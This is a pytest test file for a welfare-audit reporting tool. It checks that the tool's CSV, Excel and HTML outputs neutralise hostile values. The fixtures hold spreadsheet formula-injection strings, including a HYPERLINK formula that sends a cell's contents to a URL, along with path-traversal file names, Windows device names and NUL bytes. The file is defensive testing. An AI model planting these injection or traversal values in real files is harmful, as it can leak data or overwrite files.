"""Hostile text in findings: spreadsheet-safe CSV, no formulas or links in workbooks, safe unique file names,
and writers that survive NUL bytes and very long values."""

import csv
import datetime as dt
import hashlib
import re

import duckdb
import openpyxl
import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from hecha.config import load_policy
from hecha.reports.exceptions import write_exceptions
from hecha.reports.html_report import write_html_report
from hecha.reports.workbooks import COUNTY_BOOK, OUTCOME_SHEET, SUMMARY_SHEET, workbook_stem, write_workbooks
from hecha.storage.tables import FINDING, ddl

CITIZEN_NUMBER = re.compile(r"(?<![0-9])[0-9]{17}[0-9Xx](?![0-9])|(?<![0-9])[0-9]{15}(?![0-9])")
FORMULA = '=HYPERLINK("http://x?"&B2,"详情")'
LONG_TOWN = "长" * 300
NUL_TOWN = "坝\x00营乡"
LONG_EVIDENCE = "死亡后仍发放" * 7000  # 42,000 characters, above Excel's 32,767 per cell
EMBEDDED_NUMBER = "东关社区130529193602068743"

# (case_key, check_code, name, township, village, case_no, overpaid, backpay, evidence)
FINDINGS = (
    ("k01", "deceased_paid", FORMULA, "坝营乡", "+1+2", "TK001", 6300.0, 0.0, "-1 个月 证据"),
    ("k02", "deceased_paid", "@SUM(1)", "A/B", "\t=1+1", "TK002", -50.0, 0.0, "@SUM(A1:A9)"),
    ("k03", "moved_out_paid", "\r=cmd", "A_B", "..", "../../x", 900.0, 0.0, "=1+1"),
    ("k04", "moved_out_paid", "王兰华", COUNTY_BOOK, "东关社区", "TK004", 300.0, 0.0, "迁出后仍发放 1 个月"),
    ("k05", "missed_care_subsidy", "李" * 300, LONG_TOWN, "村" * 300, "C" * 300, 0.0, 1800.0, LONG_EVIDENCE),
    ("k06", "deceased_paid", "赵\x00红", NUL_TOWN, "赵\x0b庄村", "TK006\x07", 1200.0, 0.0, "证据\x00\x1f结束"),
    ("k07", "deceased_paid", "钱进", "..", "x", "TK007", 100.0, 0.0, "证据"),
    ("k08", "deceased_paid", "孙立", "../../x", "x", "TK008", 100.0, 0.0, "证据"),
    ("k09", "deceased_paid", "吴芳", "con", "x", "TK009", 100.0, 0.0, "证据"),
    ("k10", "deceased_paid", "郑一", "Ab", "x", "TK010", 100.0, 0.0, "证据"),
    ("k11", "deceased_paid", "冯二", "ab", "x", "TK011", 100.0, 0.0, "证据"),
    ("k12", "deceased_paid", "陈三", "谢炉镇", EMBEDDED_NUMBER, "TK012", 5000.0, 0.0, "证据"),
    ("k13", "[unknown]:'check'*?/\\ with a very long code", "褚四", "谢炉镇", "x", "TK013", 10.0, 0.0, "证据"),
)
TOWNSHIPS = sorted({row[3] for row in FINDINGS})


def build_run_database(path):
    """chk.finding (storage/tables.py FINDING) holding hostile values, nothing else."""
    con = duckdb.connect(str(path))
    con.execute("create schema chk")
    con.execute(ddl(FINDING))  # the table as the runner makes it
    con.executemany(
        "insert into chk.finding values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        [(code, f"P{key}", f"1305291936020687{i:02d}", name, town, village, case_no, dt.date(2026, 1, 1),
          dt.date(2026, 10, 1), overpaid, backpay, 0.9, False, evidence, key)
         for i, (key, code, name, town, village, case_no, overpaid, backpay, evidence) in enumerate(FINDINGS)],
    )
    return con


@pytest.fixture(scope="module")
def con(tmp_path_factory):
    connection = build_run_database(tmp_path_factory.mktemp("db") / "hecha.duckdb")
    connection.execute("create macro month_text(month) as strftime(month, '%Y-%m')")  # as sql/macros.sql has it
    yield connection
    connection.close()


@pytest.fixture(scope="module")
def exceptions_csv(con, tmp_path_factory):
    path = tmp_path_factory.mktemp("run") / "exceptions.csv"
    write_exceptions(con, path)
    return path


@pytest.fixture(scope="module")
def workbooks(con, tmp_path_factory):
    folder = tmp_path_factory.mktemp("run") / "workbooks"
    paths = write_workbooks(con, folder, run_id="2026-10_r1", as_of="2026-10", county="130529", policy=load_policy())
    assert sorted(paths) == sorted(folder.iterdir())
    return folder


@pytest.fixture(scope="module")
def report_page(con, tmp_path_factory):
    folder = tmp_path_factory.mktemp("run")
    path = write_html_report(con, folder, record={"run_id": "2026-10_r1", "parameters": {"as_of": "2026-10"}},
                             history=[])
    return path.read_text(encoding="utf-8")


def meta_township(path):
    book = openpyxl.load_workbook(path)
    try:
        return book["_meta"]["B4"].value
    finally:
        book.close()


def sha8(name: str) -> str:
    return hashlib.sha256(name.encode("utf-8")).hexdigest()[:8]


@pytest.mark.parametrize(
    ("description", "name", "expected"),
    [
        ("an ordinary township keeps its name", "坝营乡", "坝营乡"),
        ("lower-case letters, digits, - and _ are kept", "xinhua-2_qu", "xinhua-2_qu"),
        ("a path separator is hashed", "A/B", "A_B_" + sha8("A/B")),
        ("the name a look-alike's prefix would take is kept", "a_b", "a_b"),
        ("the county book's name is reserved", COUNTY_BOOK, f"{COUNTY_BOOK}_{sha8(COUNTY_BOOK)}"),
        ("a Windows device name is reserved", "con", "con_" + sha8("con")),
        ("a name shaped like a hashed one is hashed", "a_b_1a2b3c4d", "a_b_1a2b3c4d_" + sha8("a_b_1a2b3c4d")),
        ("nothing safe left: the hash alone", "..", "_" + sha8("..")),
        ("a leading dash is hashed", "-x", "x_" + sha8("-x")),
        ("upper case could meet lower case on Windows", "Ab", "Ab_" + sha8("Ab")),
        ("a citizen number is masked, then hashed", "130529193602068743", "130529_8743_" + sha8("130529193602068743")),
        ("60 characters are kept", "乡" * 60, "乡" * 60),
        ("61 are cut and hashed", "乡" * 61, "乡" * 51 + "_" + sha8("乡" * 61)),
        ("a NUL byte is hashed", "坝\x00营乡", "坝_营乡_" + sha8("坝\x00营乡")),
    ],
)
def test_workbook_stem_keeps_safe_names_and_hashes_the_rest(description, name, expected):
    assert workbook_stem(name) == expected, description


def test_exceptions_csv_escapes_formula_text_and_keeps_numbers(exceptions_csv):
    with exceptions_csv.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["case_key"]: row for row in csv.DictReader(handle)}
    assert rows["k01"]["name"] == "'" + FORMULA
    assert rows["k01"]["village"] == "'+1+2"
    assert rows["k01"]["evidence"] == "'-1 个月 证据"
    assert (rows["k02"]["name"], rows["k02"]["village"]) == ("'@SUM(1)", "'\t=1+1")
    assert (rows["k03"]["name"], rows["k03"]["evidence"]) == ("'\r=cmd", "'=1+1")
    assert rows["k04"]["name"] == "王兰华"  # ordinary text untouched
    assert rows["k02"]["overpaid_amount"] == "-50.00"  # a negative amount stays a number
    assert rows["k01"]["overpaid_amount"] == "6300.00"
    assert rows["k01"]["link_confidence"] == "0.9"
    for row in rows.values():
        for column in ("check_code", "id_number", "name", "township", "village", "case_no", "evidence", "case_key"):
            assert not row[column][:1] in ("=", "+", "-", "@", "\t", "\r"), (row["case_key"], column)


def test_workbooks_hold_no_formula_and_no_link_out(workbooks):
    books = sorted(workbooks.glob("*.xlsx"))
    assert books
    for path in books:
        book = openpyxl.load_workbook(path, data_only=False)
        try:
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)
                        if cell.hyperlink is not None:  # only the summary's links to the book's own sheets
                            assert sheet.title == SUMMARY_SHEET and not cell.hyperlink.target, (path.name, cell.coordinate)
                            assert cell.hyperlink.location.rsplit("!", 1)[0].strip("'").replace("''", "'") in book.sheetnames
            texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
        finally:
            book.close()
        if path.stem in ("坝营乡", COUNTY_BOOK):
            assert {FORMULA, "+1+2", "-1 个月 证据"} <= texts  # there, as text


def test_every_township_gets_its_own_safe_file_and_the_county_book_stays_whole(workbooks):
    folder = workbooks
    books = sorted(folder.iterdir())
    assert all(path.parent == folder and path.suffix == ".xlsx" for path in books)
    assert len(books) == len(TOWNSHIPS) + 1  # one per township, none overwritten, and the county's
    county_book = folder / f"{COUNTY_BOOK}.xlsx"
    by_township = {meta_township(path): path for path in books if path != county_book}
    assert sorted(by_township) == sorted(town.replace("\x00", "\ufffd") for town in TOWNSHIPS)
    assert by_township["坝营乡"].name == "坝营乡.xlsx"
    assert by_township["A/B"].name != by_township["A_B"].name
    assert by_township["Ab"].name.lower() != by_township["ab"].name.lower()
    for path in books:
        assert len(path.name.encode("utf-8")) <= 255 and not path.name.startswith(".")
    assert by_township[COUNTY_BOOK].stem.startswith(f"{COUNTY_BOOK}_")
    county = openpyxl.load_workbook(county_book)
    try:
        title = county[SUMMARY_SHEET]["A1"].value
        listed = [row for sheet in county.worksheets if sheet.title not in (SUMMARY_SHEET, OUTCOME_SHEET, "_meta", "待确认")
                  for row in sheet.iter_rows(min_row=2, values_only=True) if any(row)]
    finally:
        county.close()
    assert meta_township(county_book) == COUNTY_BOOK and title.endswith(COUNTY_BOOK)
    assert len(listed) == len(FINDINGS)  # every finding, the township called 全县 included


def test_writers_survive_nul_bytes_and_300_character_values(workbooks, report_page):
    long_book = next(path for path in workbooks.iterdir() if meta_township(path) == LONG_TOWN)
    book = openpyxl.load_workbook(long_book)
    try:
        assert book.properties.title.endswith(f"（{LONG_TOWN}）")
        assert book[SUMMARY_SHEET]["A1"].value.endswith(LONG_TOWN)  # the real name inside the book
        texts = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                 if isinstance(cell.value, str)]
    finally:
        book.close()
    assert max(len(text) for text in texts) == 32767  # the long evidence, cut at Excel's limit
    for path in workbooks.iterdir():
        book = openpyxl.load_workbook(path)
        try:
            for sheet in book.worksheets:
                assert len(sheet.title) <= 31 and not re.search(r"[\[\]:*?/\\]", sheet.title)
                for row in sheet.iter_rows():
                    for cell in row:
                        if isinstance(cell.value, str):
                            assert not ILLEGAL_CHARACTERS_RE.search(cell.value), (path.name, sheet.title, cell.coordinate)
            assert not ILLEGAL_CHARACTERS_RE.search(book.properties.title or "")
        finally:
            book.close()
    page = report_page
    assert "\x00" not in page and "\x0b" not in page
    assert LONG_TOWN in page  # named in full in its table row
    assert not CITIZEN_NUMBER.search(page)
